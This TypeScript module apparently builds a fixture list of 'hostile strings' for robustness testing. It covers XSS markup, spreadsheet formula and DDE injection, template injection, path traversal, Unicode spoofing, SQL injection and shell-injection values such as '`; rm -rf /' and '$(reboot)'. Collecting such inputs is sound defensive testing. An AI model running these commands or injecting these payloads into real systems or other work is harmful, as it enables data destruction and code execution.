import { hostileWords } from './arbitraryEvaluation'

const MARKUP = [
  '<script>window.hit=1</script>', '<img src=x onerror="window.hit=1">', '<svg onload="window.hit=1">', '"><script>window.hit=1</script>', "' onmouseover='window.hit=1", '<iframe src="javascript:window.hit=1">', '<a href="javascript:window.hit=1">点我</a>',
  '<style>*{display:none}</style>', '<base href="https://example.com/">', '<meta http-equiv="refresh" content="0;url=https://example.com">', '<link rel=stylesheet href=https://example.com/a.css>', '<object data="data:text/html,<script>window.hit=1</script>">', '<form action=https://example.com><input name=a>',
  '<math><mi//xlink:href="data:x,<script>window.hit=1</script>">', '<details open ontoggle=window.hit=1>', '<video><source onerror="window.hit=1">', '<body onload=window.hit=1>', '<template><script>window.hit=1</script></template>', '</textarea><script>window.hit=1</script>', '</title><script>window.hit=1</script>',
  '<!--', '-->', '<![CDATA[', ']]>', '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', '&a;', '&lt;b&gt;', '&#60;script&#62;', '&amp;amp;', '<w:p/>', '</w:t></w:r></w:p>', '<c r="A1"><f>1+1</f></c>', '</t></is></c>', '<b>', '</b>', '<', '>', '&', '"', "'",
]
const FORMULAS = [
  '=1+1', '=cmd|\'/c calc\'!A0', '=HYPERLINK("https://example.com?"&A1,"看")', '=WEBSERVICE("https://example.com")', '=IMPORTXML("https://example.com","//a")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd', '-1+1', '=SUM(A1:A9)', '=A1', "='[另一本.xlsx]表'!A1", '=DDE("cmd";"/C calc";"!A0")', '\t=1+1', '\n=1+1', ' =1+1', '＝1+1', '=#REF!', '=TRUE', '%0A=1+1', ';=1+1', '=CALL("kernel32")', '=EXEC("calc")', '=REGISTER.ID("x")', '=RTD("x",,"y")', '=INFO("osversion")',
]
const TEMPLATES = [
  '{{7*7}}', '{{constructor.constructor("window.hit=1")()}}', '${7*7}', '${window.hit=1}', '#{7*7}', '<%= 7*7 %>', '{%raw%}', '{单位名称}', '{', '}', '{}', '[[x]]', '[object Object]', 'v-html="x"', ':onclick="x"', '%s%n%x', '%2e%2e%2f', '\\u003cscript\\u003e', '\\x3c', '`window.hit=1`', '$&', '$1', '$$', '$`', "$'", '/(a+)+$/', '(?:x)', '.*', '\\', '\\\\',
]
const NAMES = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then', 'length', 'name', 'id', 'null', 'undefined', 'NaN', 'Infinity', 'true', 'false', '[]', '0', '-0', '1e309', '0x10', '1_000', '１２３', '①', '壹佰', 'Ⅷ', '1,234.50', '12.', '.5', '1/0',
]
const FILES = [
  '../../../../etc/passwd', '..\\..\\windows\\system32', 'C:\\autoexec.bat', '\\\\server\\share', 'CON', 'aux.txt', 'LPT1', 'a:b', 'a*b?', 'a|b', 'file:///c:/', 'https://example.com/', 'javascript:window.hit=1', 'data:text/html,<script>window.hit=1</script>', 'x.xlsx.exe', 'x\u202Excod.exe', '.', '..', '...', 'x.', ' x ',
]
const UNICODE = [
  '\u202Egnp.exe', '\u2066反\u2069', '\u200B零宽\u200D', '\uFEFF首字节', 'e\u0301', '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}', '\u{20000}\u{2A6D6}', '\u{E000}私用', '\u00A0空\u3000格', '\u2028行\u2029段', '０＋１＝１', '中\u0300\u0301\u0302\u0303\u0304文', '\u{10FFFF}', 'İıſß', 'ﷺ', '𝟙𝟚', '⁦x⁩', '\u115F', 'Ｚ̸', '㍿',
]
const SQL = ["'; DROP TABLE evaluations;--", "' OR '1'='1", '1; SELECT 1', 'admin\'--', '" OR ""="', '`; rm -rf /', '$(reboot)', '| shutdown -h now', '&& calc', '%PATH%', '$PATH', '~', '!important', 'url(javascript:window.hit=1)', 'expression(window.hit=1)']

/** 200 and more strings that have broken programs, each once: as text they must change nothing but the text shown. */
export const hostileStrings: readonly string[] = [...new Set([...hostileWords, ...MARKUP, ...FORMULAS, ...TEMPLATES, ...NAMES, ...FILES, ...UNICODE, ...SQL, '长'.repeat(5000)])]
